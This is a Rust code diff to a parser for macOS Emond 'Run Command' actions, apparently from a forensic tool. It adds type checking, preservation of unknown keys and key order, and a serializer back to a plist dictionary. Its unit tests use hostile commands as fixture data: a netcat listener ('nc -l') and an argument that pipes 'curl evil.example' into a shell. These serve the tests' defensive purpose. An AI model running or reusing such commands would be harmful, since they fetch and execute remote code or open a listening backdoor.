@@ -1,15 +1,40 @@
-use log::warn;
 use plist::Dictionary;
-use serde::Serialize;
+use serde::{Deserialize, Serialize};
 
-use crate::util::get_string_value;
+use crate::{
+    diagnostic::Expected,
+    hashes::Hashes,
+    target::CommandTarget,
+    util::{
+        get_key_order, get_string_value, get_string_values, insert_extra_value,
+        insert_extra_values, insert_string_value, insert_string_values, order_dictionary,
+    },
+};
 
-#[derive(Debug, Serialize)]
+/// Run Command Action keys and their expected value types
+pub(crate) const RUN_COMMAND_KEYS: [(&str, Expected); 5] = [
+    ("type", Expected::String),
+    ("command", Expected::String),
+    ("user", Expected::String),
+    ("group", Expected::String),
+    ("arguments", Expected::StringArray),
+];
+
+#[derive(Debug, Serialize, Deserialize, Default)]
 pub struct Command {
     pub command: String,
     pub user: String,
     pub group: String,
     pub arguements: Vec<String>,
+    /// Action keys not modeled above
+    pub extra: Dictionary,
+    /// Keys in the order they were parsed, so the action is written back the same way
+    #[serde(default)]
+    pub key_order: Vec<String>,
+    /// Hashes of the command file, if hashing is enabled and the file is found under the parse root
+    pub hashes: Option<Hashes>,
+    /// File the command runs, if command resolution is enabled in the parse options
+    pub target: Option<CommandTarget>,
 }
 
 impl Command {
@@ -20,37 +45,52 @@ impl Command {
             user: String::new(),
             group: String::new(),
             arguements: Vec::new(),
+            extra: Dictionary::new(),
+            key_order: get_key_order(action_dictionary),
+            hashes: None,
+            target: None,
         };
         for (key, action_value) in action_dictionary {
-            if key == "command" {
+            if key == "command" && action_value.as_string().is_some() {
                 command_data.command = get_string_value(action_value);
-            } else if key == "user" {
+            } else if key == "user" && action_value.as_string().is_some() {
                 command_data.user = get_string_value(action_value);
-            } else if key == "group" {
+            } else if key == "group" && action_value.as_string().is_some() {
                 command_data.group = get_string_value(action_value);
-            } else if key == "arguments" {
-                let arg_results = action_value.as_array();
-                let arg_array = match arg_results {
-                    Some(results) => results,
-                    None => {
-                        warn!(
-                            "Failed to parse Run Command Action array: {:?}",
-                            action_value
-                        );
-                        continue;
-                    }
-                };
-
-                for args in arg_array {
-                    command_data.arguements.push(get_string_value(args));
-                }
+            } else if key == "arguments" && action_value.as_array().is_some() {
+                command_data.arguements = get_string_values(action_value);
             } else if key == "type" {
                 // Skip type values. We already know the action type
                 continue;
+            } else {
+                insert_extra_value(
+                    &mut command_data.extra,
+                    &RUN_COMMAND_KEYS,
+                    key,
+                    action_value,
+                    "Run Command Action",
+                );
             }
         }
         command_data
     }
+
+    /// Convert the Run Command Action back into an Emond action dictionary, without the action type
+    pub fn to_dictionary(&self) -> Dictionary {
+        let key_order = &self.key_order;
+        let mut action_dictionary = Dictionary::new();
+        insert_string_value(&mut action_dictionary, "command", &self.command, key_order);
+        insert_string_value(&mut action_dictionary, "user", &self.user, key_order);
+        insert_string_value(&mut action_dictionary, "group", &self.group, key_order);
+        insert_string_values(
+            &mut action_dictionary,
+            "arguments",
+            &self.arguements,
+            key_order,
+        );
+        insert_extra_values(&mut action_dictionary, &self.extra);
+        order_dictionary(action_dictionary, key_order)
+    }
 }
 
 #[cfg(test)]
@@ -76,5 +116,22 @@ mod tests {
         assert_eq!(results.group, "wheel");
         assert_eq!(results.command, "nc -l");
         assert_eq!(results.arguements.len(), 0);
+        assert_eq!(
+            results.extra.get("message"),
+            Some(&Value::String(String::from("test")))
+        );
+    }
+
+    #[test]
+    fn test_parse_action_run_command_unexpected_type() {
+        let mut test_dictionary = Dictionary::new();
+        test_dictionary.insert(
+            String::from("arguments"),
+            Value::String(String::from("-c curl evil.example | sh")),
+        );
+
+        let results = command::Command::parse_action_run_command(&test_dictionary);
+        assert!(results.arguements.is_empty());
+        assert_eq!(results.extra, test_dictionary);
     }
 }